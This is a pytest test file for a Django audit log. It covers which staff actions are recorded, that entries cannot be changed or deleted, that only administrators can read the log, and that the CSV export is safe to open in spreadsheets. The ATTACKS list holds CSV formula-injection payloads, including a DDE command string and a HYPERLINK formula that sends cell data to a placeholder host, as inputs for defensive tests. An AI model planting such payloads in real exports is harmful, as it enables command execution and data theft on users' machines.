"""The audit log: what is recorded, who reads it, that nobody changes it, and that no spreadsheet computes its CSV."""

import csv
import io
import re

import pytest
from django.contrib.admin.models import LogEntry
from django.db import transaction
from django.db.models import ProtectedError
from django.urls import reverse

from contacts.models import ContactChange
from editing.models import Draft, PreviewLink
from staff.audit import spreadsheet_safe
from staff.models import User
from tests.conftest import make_client, shown_edit_tokens
from tests.factories import (
    log_entry,
    make_channel,
    make_closure,
    make_contact_point,
    make_helpline,
    make_post,
)
from tests.html import Page
from tests.number_forms import NEW, OLD, change_point, decide, pending, speak_english  # noqa: F401  a fixture
from tests.test_closures_admin import DAY, decided
from tests.test_publishing_admin import ENGLISH, FORM, LATVIAN, change

LIST = reverse("admin:admin_logentry_changelist")
EXPORT = reverse("admin:admin_logentry_export")


def newest():
    """What the newest entry is about, and what it names as done."""
    entry = LogEntry.objects.order_by("pk").last()
    return entry and (entry.user.username, entry.content_type.model, entry.get_change_message())


def exported(client, query=""):
    response = client.get(EXPORT + query)
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert "attachment" in response.headers["Content-Disposition"]
    text = response.getvalue().decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline="")))


# --- What is recorded


@pytest.fixture
def live(db):
    return make_post()


def test_publishing_and_withdrawing_are_recorded(publisher, live):
    publisher.post(change(live), FORM | LATVIAN | ENGLISH | {"_publish": "lv"})
    who, kind, what = newest()
    assert (who, kind) == ("publisher", "post")
    assert what.startswith("Withdrawn in English. Changed ")


def test_a_request_to_publish_is_recorded(author):
    post = make_post(public_in=())
    author.user.language = "en"
    author.user.save()
    author.post(change(post), FORM | LATVIAN | ENGLISH | {"_save": "x", "_ask": "x"})
    assert newest()[2].startswith("Asked to publish this. Changed ")


def test_drafts_are_recorded(author, live):
    author.user.language = "en"
    author.user.save()
    author.post(change(live), FORM | LATVIAN | ENGLISH | {"_save": "x"})
    assert newest() == ("author", "post", "Draft saved.")
    author.post(change(live), FORM | LATVIAN | ENGLISH | {"_save": "x", "_ask": "x"})
    assert newest() == ("author", "post", "Asked to publish the draft.")
    token = shown_edit_tokens("news", "post", live.pk).split()[-1]
    author.post(reverse("admin:news_post_draft_drop", args=[live.pk]), {"_draft": token})
    assert newest() == ("author", "post", "Draft discarded.")
    assert not Draft.objects.exists()


def test_preview_links_are_recorded(publisher, live):
    address = reverse("admin:news_post_previews", args=[live.pk])
    for posted, note in (({"look": "lv"}, "Previewed."), ({"share": "lv"}, "Preview link made.")):
        publisher.post(address, posted)
        assert newest() == ("publisher", "post", note)
    publisher.post(address, {"revoke": PreviewLink.objects.first().pk})
    assert newest() == ("publisher", "post", "Preview link revoked.")


def test_proposals_and_decisions_are_recorded_without_the_number(publisher, administrator):
    channel = make_channel(make_helpline(is_primary=True), make_contact_point(OLD))
    other = make_channel(make_helpline())
    change_point(publisher, channel.contact_point, NEW)
    assert newest() == ("publisher", "contactchange", "Proposed.")
    decide(administrator, pending(), NEW)
    assert newest() == ("administrator", "contactchange", "confirmed")
    again = reverse("admin:contacts_contactchange_again", args=[ContactChange.objects.latest("pk").pk])
    primary = reverse("admin:contacts_helpline_primary", args=[other.helpline_id])
    for address in (again, primary):
        publisher.post(address)
        assert newest() == ("publisher", "contactchange", "Proposed.")
    administrator.post(
        reverse("admin:contacts_contactchange_change", args=[ContactChange.objects.pending().last().pk]),
        {"_reject": "x"},
    )
    assert newest() == ("administrator", "contactchange", "rejected")
    for entry in LogEntry.objects.all():
        assert "565098" not in re.sub(r"\s", "", entry.object_repr + entry.change_message)


def test_the_decision_on_a_closed_day_is_recorded(publisher):
    decided(publisher, make_closure(DAY, status="suggested"), "confirmed")
    assert newest() == ("publisher", "closure", "confirmed")


# --- Nobody changes it


@pytest.fixture
def owner(db):
    client = make_client()
    client.user = User.objects.create_superuser("owner", password="a long enough password")
    client.force_login(client.user)
    return client


@pytest.mark.parametrize("person", ["owner", "administrator"])
def test_nobody_adds_changes_or_deletes_an_entry(person, live, request):
    client = request.getfixturevalue(person)
    entry = log_entry(live, client.user)
    row = reverse("admin:admin_logentry_change", args=[entry.pk])
    assert client.get(row).status_code == 200 and "_save" not in client.get(row).content.decode()
    assert client.post(row, {"change_message": "forged"}).status_code == 403
    assert client.post(reverse("admin:admin_logentry_add"), {"object_repr": "forged"}).status_code == 403
    assert (
        client.post(reverse("admin:admin_logentry_delete", args=[entry.pk]), {"post": "yes"}).status_code
        == 403
    )
    client.post(LIST, {"action": "delete_selected", "_selected_action": [entry.pk], "post": "yes"})
    assert list(LogEntry.objects.values_list("pk", "change_message")) == [(entry.pk, "Draft saved.")]


def test_an_entry_stands_even_for_code(live, publisher):
    entry = log_entry(live, publisher.user)
    with pytest.raises(ProtectedError), transaction.atomic():
        entry.delete()
    with pytest.raises(ProtectedError), transaction.atomic():
        LogEntry.objects.all().delete()
    with pytest.raises(TypeError):
        entry.save()
    assert LogEntry.objects.count() == 1


def test_an_account_with_entries_is_not_deleted(live, publisher, author):
    log_entry(live, publisher.user)
    with pytest.raises(ProtectedError), transaction.atomic():
        publisher.user.delete()
    assert User.objects.filter(username="publisher").exists()
    author.user.delete()


@pytest.mark.parametrize("role", ["author", "publisher"])
@pytest.mark.django_db
def test_only_administrators_read_it(role, live, request):
    client = request.getfixturevalue(role)
    assert LIST not in client.get("/admin/").content.decode()
    for address in (LIST, EXPORT):
        assert client.get(address).status_code == 403


# --- The list and the file


def test_the_list_names_person_record_and_page_and_can_be_narrowed(administrator, publisher, live):
    log_entry(live, publisher.user, "One.")
    log_entry(make_post(title_lv="Cits", title_en="Other"), administrator.user, "Two.")
    page = Page(administrator.get(LIST))
    assert change(live) in page.links() and {"One.", "Two."} <= set(page.texts("td"))
    queries = (f"?user__id__exact={publisher.user.pk}", "?q=publisher", "?q=One", "?q=Librarians")
    for query in (*queries[:3], f"?q={live}"):
        assert "Two." not in Page(administrator.get(LIST + query)).texts("td"), query
        assert [row[6] for row in exported(administrator, query)[1:]] == ["One."], query
    assert administrator.get(f"{EXPORT}?user__id__exact=x").status_code == 302
    assert f"{EXPORT}{queries[0]}" in Page(administrator.get(LIST + queries[0])).links()


def test_the_file_holds_who_what_when_and_where(administrator, publisher, live):
    log_entry(live, publisher.user)
    publisher.post(
        reverse("admin:news_post_changelist"), {"action": "put_in_bin", "_selected_action": [live.pk]}
    )
    heading, deleted, changed = exported(administrator)
    assert heading == [
        "time",
        "member of staff",
        "action",
        "kind",
        "number",
        "record",
        "what was done",
        "staff page",
    ]
    assert changed[1:] == [
        "publisher",
        "Change",
        "post",
        str(live.pk),
        str(live),
        "Draft saved.",
        change(live),
    ]
    assert (deleted[2], deleted[7]) == ("Deletion", reverse("admin:news_post_changelist"))
    administrator.user.language = "lv"
    administrator.user.save()
    assert exported(administrator)[0][1] == "darbinieks"


def test_it_begins_so_that_spreadsheets_read_latvian_letters(administrator):
    assert administrator.get(EXPORT).getvalue().startswith("\ufefflaiks".encode()[:3])


def test_it_costs_the_same_however_much_there_is(administrator, live, django_assert_max_num_queries):
    for _turn in range(20):
        log_entry(live, administrator.user)
    with django_assert_max_num_queries(10):
        assert len(exported(administrator)) == 21


ATTACKS = [
    "=1+1", "+1+1", "-1+1", "@SUM(1)", "=HYPERLINK(\"https://a.example/?\"&A1,\"x\")", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0",
    "  =1", "\t=1", "\r=1", "\n=1", "\r\n =1", "\u00a0=1", "\ufeff=1", "\u200b=1", "\u2060 =1", "\x00=1", "\x1f=1", "\u2028=1",
    "＝1+1", "＋1", "－1", "＠SUM(1)", "\"=1", "'=1", "a,=1", "a;=1", "a; =1", "x\";=1;\"", "a\n=1", "a\t=1", "a|=1", ",,=1",
]  # fmt: skip
BEGINS = re.compile('[\\s"\u200b\u2060\ufeff\x00-\x1f]*[=+\\-@＝＋－＠]')


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_cell_is_a_formula_wherever_a_spreadsheet_splits_the_line(attack, administrator, live):
    log_entry(live, administrator.user, attack.replace("\x00", ""))
    cell = exported(administrator)[1][6]
    assert "\n" not in cell and "\r" not in cell
    for separator in ",;\t|":
        for part in cell.split(separator):
            assert not BEGINS.match(part), part
    assert not BEGINS.match(spreadsheet_safe(attack))


@pytest.mark.parametrize("number", ["+371 28 612 120", "+37128612120", "+371\xa028\xa0612\xa0120"])
def test_a_number_stays_a_text_with_its_plus(number, administrator, live):
    LogEntry.objects.filter(pk=log_entry(live, administrator.user).pk).update(object_repr=number)
    cell = exported(administrator)[1][5]
    assert cell == "'" + number.replace("\xa0", " ")


def test_ordinary_words_stay_as_they_are():
    for text in (
        "Bibliotekāri mācās palīdzēt",
        "/admin/news/post/3/change/",
        "a = b, c – d; e-mail a@b.example",
        "",
    ):
        assert spreadsheet_safe(text) == text
